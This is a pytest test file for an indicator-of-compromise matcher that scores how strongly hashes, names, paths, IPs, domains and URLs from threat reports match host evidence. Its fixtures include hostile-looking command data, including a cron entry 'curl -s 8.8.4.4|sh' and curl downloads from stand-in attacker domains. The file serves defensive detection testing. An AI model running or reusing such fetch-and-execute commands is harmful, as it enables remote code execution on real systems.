"""Indicators: a digest says much, an address much in the right role, a name little."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hinomi.detect.draft import merged
from hinomi.detect.indicator import Indicator, indicators_of, is_usable, lookup_value, match_indicators, path_suffix
from hinomi.detect.sql import Evidence
from hinomi.model.claims import Claim, Relation, Report
from hinomi.model.findings import Coverage

DIGEST = "ab" * 32


def indicator(kind: str, value: str, role: str = "malicious", **changes) -> Indicator:
    return Indicator(
        **(
            {
                "claim_id": "c1",
                "report_id": "r1",
                "type": kind,
                "value": value,
                "role": role,
                "confidence": 80,
                "report_title": "R",
                "threats": ("T",),
            }
            | changes
        )
    )


def matches(written, *indicators: Indicator):
    coverage = Coverage()
    with Evidence(written) as evidence:
        drafts = merged(match_indicators(evidence, indicators, coverage))
    assert coverage.misses == []
    return {(d.rule_id, d.subject): d for d in drafts}


def test_a_digest_is_decisive_unless_the_file_is_its_packages_own(tables) -> None:
    written = tables(
        files=[{"path": "/a", "sha256": DIGEST}, {"path": "/b", "sha256": DIGEST, "package_state": "intact"}]
    )
    found = matches(written, indicator("sha256", DIGEST.upper(), "sample"))
    assert [(d.severity, d.confidence) for d in found.values()] == [("critical", 90), ("low", 80)]
    assert found[("indicator:sha256", "/a")].reports == ("r1",)
    assert matches(written, indicator("sha256", DIGEST, "mentioned"))[("indicator:sha256", "/a")].severity == "high"


def test_a_name_is_at_most_low(tables) -> None:
    written = tables(
        files=[
            {"path": "/opt/Somed", "package_state": "unowned"},
            {"path": "/usr/sbin/somed", "package_state": "intact"},
            {"path": "/etc/somed", "kind": "directory"},
            {"path": "/x/somed.conf"},
            {"path": "/y/somed", "kind": "symlink"},
        ],
        processes=[
            {"pid": 7, "ppid": 1, "name": "somed", "exe": "/opt/somed"},
            {"pid": 8, "ppid": 2, "name": "somed", "kernel_thread": True},
        ],
        persistence=[{"mechanism": "cron", "path": "/etc/cron.d/x", "command": "/opt/somed", "program": "/opt/somed"}],
    )
    found = matches(written, indicator("filename", "SOMED"))
    assert {subject: d.severity for (_, subject), d in found.items()} == {
        "/opt/Somed": "low",
        "/usr/sbin/somed": "info",
        "/y/somed": "low",
        "7": "low",
        "/etc/cron.d/x": "low",
    }
    assert all(d.confidence <= 30 for d in found.values())
    assert found[("indicator:filename", "7")].related == ("/opt/somed",)


def test_a_name_that_fits_everything_says_nothing_and_does_not_hide_others(tables) -> None:
    written = tables(files=[*({"path": f"/{n}/common"} for n in range(101)), {"path": "/a/rare"}])
    coverage = Coverage()
    with Evidence(written) as evidence:
        wanted = [indicator("filename", "common"), indicator("filename", "rare")]
        assert [d.subject for d in match_indicators(evidence, wanted, coverage)] == ["/a/rare"]
    assert coverage.skipped["indicators-too-common"] == 1 and coverage.complete


def test_a_flood_of_decisive_hits_is_cut_and_said(tables) -> None:
    written = tables(files=[{"path": f"/{n}", "sha256": DIGEST} for n in range(300)])
    coverage = Coverage()
    with Evidence(written) as evidence:
        assert len(list(match_indicators(evidence, [indicator("sha256", DIGEST)], coverage))) == 101
    assert [m.reason for m in coverage.misses] == ["truncated"]


def test_paths_match_by_their_end(tables) -> None:
    written = tables(
        files=[
            {"path": p} for p in ("/Users/a/AppData/Roaming/x/note.txt", "/opt/x/note.txt", "/note.txt", "/opt/n/a/t")
        ]
    )
    found = matches(written, indicator("filepath", r"%APPDATA%\x\Note.txt"))
    assert {s for _, s in found} == {"/Users/a/AppData/Roaming/x/note.txt", "/opt/x/note.txt"}
    assert {s for _, s in matches(written, indicator("filepath", "/opt/n/a/t"))} == {"/opt/n/a/t"}
    assert matches(written, indicator("filepath", "/opt/*/note.txt"), indicator("filepath", "$HOME/note.txt")) == {}


def test_accounts(tables) -> None:
    written = tables(accounts=[{"name": "vex", "uid": 0}, {"name": "Vex", "uid": 1000}, {"name": "root", "uid": 0}])
    found = matches(written, indicator("account", "vex"), indicator("account", "root"), indicator("account", "Vex"))
    assert {s: d.severity for (_, s), d in found.items()} == {"vex": "medium", "Vex": "low", "root": "low"}


def test_addresses_in_programs_scripts_persistence_and_sockets(tables) -> None:
    written = tables(
        files=[{"path": "/own", "package_state": "intact"}, {"path": "/bad"}],
        elf=[
            {
                "path": "/bad",
                "embedded_addresses": ["8.8.4.4:443", "A.Evil.example"],
                "embedded_urls": ["http://U@w.evil.example:80/p"],
            },
            {"path": "/own", "embedded_addresses": ["8.8.4.4"]},
            {"path": "/near", "embedded_addresses": ["8.8.4.40", "notevil.example"]},
        ],
        script_actions=[
            {"path": "/s", "action": "downloads", "object": "https://X.evil.example/a?b", "command": "curl"},
            {"path": "/t", "action": "starts", "object": "/evil.example.d/x", "command": "x"},
        ],
        persistence=[{"mechanism": "cron", "path": "/c", "command": "curl -s 8.8.4.4|sh", "program": "/usr/bin/curl"}],
        sockets=[
            {"pid": 3, "remote_address": "::ffff:8.8.4.4", "remote_port": 443},
            {"pid": 3, "remote_address": "8.8.4.5"},
        ],
        processes=[{"pid": 3, "ppid": 1, "name": "x", "exe": "/bad"}],
    )
    c2 = "command-and-control"
    found = matches(written, indicator("ipv4", "8.8.4.4", c2), indicator("domain", "evil.example", c2))
    severities = {key: d.severity for key, d in found.items()}
    assert severities == {
        ("indicator:ipv4", "/bad"): "high",
        ("indicator:ipv4", "/own"): "low",
        ("indicator:domain", "/bad"): "high",
        ("indicator:domain", "/s"): "high",
        ("indicator:ipv4", "/c"): "high",
        ("indicator:ipv4", "tcp ::ffff:8.8.4.4:443"): "high",
        # "/evil.example.d" only begins like the name
    }
    assert found[("indicator:ipv4", "tcp ::ffff:8.8.4.4:443")].related == ("/bad",)


def test_urls_match_whole(tables) -> None:
    written = tables(
        elf=[
            {"path": "/e", "embedded_urls": ["HTTP://drop.example/uc?id=1/"]},
            {"path": "/f", "embedded_urls": ["http://drop.example/other"]},
        ],
        script_actions=[{"path": "/s", "action": "downloads", "command": "curl 'https://drop.example/uc?id=1' -o x."}],
    )
    assert {s for _, s in matches(written, indicator("url", "hxxp://drop.example/uc?id=1".replace("xx", "tt")))} == {
        "/e",
        "/s",
    }


@pytest.mark.parametrize("role", ["benign", "reference", "victim", "impersonated", "affected", "fixed"])
def test_what_is_not_malicious_never_matches(tables, role: str) -> None:
    written = tables(
        files=[{"path": "/x/somed", "sha256": DIGEST}], elf=[{"path": "/e", "embedded_addresses": ["8.8.4.4"]}]
    )
    listed = [
        indicator(k, v, role)
        for k, v in (("filename", "somed"), ("sha256", DIGEST), ("ipv4", "8.8.4.4"), ("filepath", "/x/somed"))
    ]
    assert matches(written, *listed) == {}


@pytest.mark.parametrize(
    "one",
    [
        indicator("sha256", hashlib.sha256(b"").hexdigest()),
        indicator("sha256", hashlib.sha256(b"test").hexdigest()),
        indicator("ipv4", "192.168.1.1", "command-and-control"),
        indicator("ipv4", "203.0.113.7"),
        indicator("ipv4", "999.1.1.1"),
        indicator("filepath", "%TEMP%"),
        indicator("filepath", "/"),
        indicator("domain", "evil.example", "mentioned"),
        indicator("filename", "rc.local", "mentioned"),
    ],
)
def test_junk_and_common_places_are_not_looked_up(one: Indicator) -> None:
    assert not is_usable(one)


def test_claims_of_two_reports_on_one_subject_are_one_finding(tables) -> None:
    written = tables(files=[{"path": "/a/somed"}])
    found = matches(
        written, indicator("filename", "somed"), indicator("filename", "SomeD", claim_id="c2", report_id="r2")
    )
    (one,) = found.values()
    assert one.reports == ("r1", "r2") and one.attributes == {"claims": ["c1", "c2"]}


def claim(number: int, kind: str, value: str, **changes) -> Claim:
    return Claim(
        **({"id": f"c{number}", "type": kind, "value": value, "text": value, "span": (0, 1), "section": 0} | changes)
    )


def test_indicators_of_a_report() -> None:
    report = Report(
        id="r",
        source="s",
        title="T",
        language="en",
        published=None,
        text="",
        sections=(),
        claims=(
            claim(1, "malware", "Foo", canonical="FooRAT"),
            claim(2, "filename", "food", role="malicious", status="accepted"),
            claim(3, "filename", "bard", role="malicious"),
            claim(4, "sha256", DIGEST, status="rejected", role="sample"),
            claim(5, "sector", "x"),
            claim(6, "actor", "Act", section=1),
            claim(7, "ipv4", "8.8.4.4", section=1, role="command-and-control"),
        ),
        relations=(Relation("c6", "uses", "c7", (0, 1)),),
    )
    got = indicators_of([report])
    assert [(i.claim_id, i.threats) for i in got] == [("c2", ("FooRAT",)), ("c3", ("FooRAT",)), ("c7", ("Act",))]
    assert [i.claim_id for i in indicators_of([report], statuses=("accepted",))] == ["c2"]


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=60))
def test_any_value_is_normalised(value: str) -> None:
    suffix = path_suffix(value.lower())
    assert suffix == "" or (suffix.startswith("/") and "\\" not in suffix and not set("*?%<>") & set(suffix))
    for kind in ("filepath", "domain", "url", "filename", "ipv4", "account"):
        assert isinstance(lookup_value(indicator(kind, value)), str)
        assert is_usable(indicator(kind, value)) in (True, False)
